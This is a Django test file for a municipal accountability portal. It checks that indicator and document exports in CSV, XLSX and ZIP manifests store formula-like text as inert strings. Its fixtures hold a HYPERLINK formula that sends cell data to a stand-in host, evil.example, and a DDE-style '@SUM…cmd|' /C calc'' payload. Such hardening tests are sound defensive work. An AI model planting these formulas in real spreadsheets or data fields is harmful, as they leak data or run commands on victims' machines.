"""Exports never carry a live spreadsheet formula (hardening issue, OWASP "CSV injection"):
an indicator or document title starting with = + - @ is written as inert text in every CSV
and XLSX the portal produces, and an exported matrix still imports with the same text."""

import io
import zipfile

import openpyxl
from django.contrib.auth import get_user_model
from django.test import TestCase
from django.urls import reverse

from importer.plan import build_plan
from rendicion.models import PublicCollection
from tests.factories import DepartmentFactory, DocumentFactory, IndicatorFactory

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"x")'


def xlsx_cells(content):
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


class FormulaSafetyTests(TestCase):
    def setUp(self):
        education = DepartmentFactory(name="Secretaría de Educación", slug="educacion")
        self.indicator = IndicatorFactory(code="220100900", name=EVIL, department=education)
        from wagtail.models import Collection

        collection = Collection.get_first_root_node().add_child(name="Publicaciones")
        PublicCollection.objects.create(collection=collection)
        DocumentFactory(title="@SUM(1+1)*cmd|' /C calc'!A0", collection=collection)
        self.admin = get_user_model().objects.create_superuser("admin", "a@example.org", "x")

    def assert_inert_xlsx(self, content):
        cells = [cell for cell in xlsx_cells(content) if EVIL in str(cell.value)]
        self.assertTrue(cells)
        for cell in cells:
            self.assertEqual(cell.data_type, "s")  # a string, never a formula

    def assert_inert_csv(self, text, expected=EVIL):
        self.assertIn(expected.replace('"', '""'), text)
        for line in text.splitlines():
            for cell in line.split(";"):
                self.assertFalse(cell.lstrip('"').startswith(("=", "@", "+")), line)

    def test_open_data_files(self):
        self.assert_inert_xlsx(self.client.get("/datos/indicadores.xlsx").content)
        self.assert_inert_csv(self.client.get("/datos/indicadores.csv").content.decode())
        documents = self.client.get("/datos/documentos.csv").content.decode()
        self.assert_inert_csv(documents, expected="@SUM(1+1)")

    def test_zip_manifest(self):
        response = self.client.get("/documentos/vigencia-2021.zip")
        content = b"".join(response.streaming_content)
        manifest = zipfile.ZipFile(io.BytesIO(content)).read("MANIFEST.csv").decode()
        self.assertIn("'@SUM", manifest)

    def test_admin_exports_and_the_round_trip(self):
        self.client.force_login(self.admin)
        matrix = self.client.get(reverse("wagtailsnippets_rendicion_indicator:export_matrix"))
        self.assert_inert_xlsx(matrix.content)
        listing = self.client.get(
            reverse("wagtailsnippets_rendicion_indicator:list") + "?export=csv"
        )
        self.assert_inert_csv(b"".join(listing.streaming_content).decode())
        xlsx = self.client.get(reverse("wagtailsnippets_rendicion_indicator:list") + "?export=xlsx")
        self.assert_inert_xlsx(b"".join(xlsx.streaming_content))
        # Exported, then imported again: the same name, no change planned.
        plan = build_plan(matrix.content, "indicadores.xlsx", update=True)
        self.assertFalse(plan.errors, plan.errors)
        self.assertEqual(len(plan.unchanged), 1)
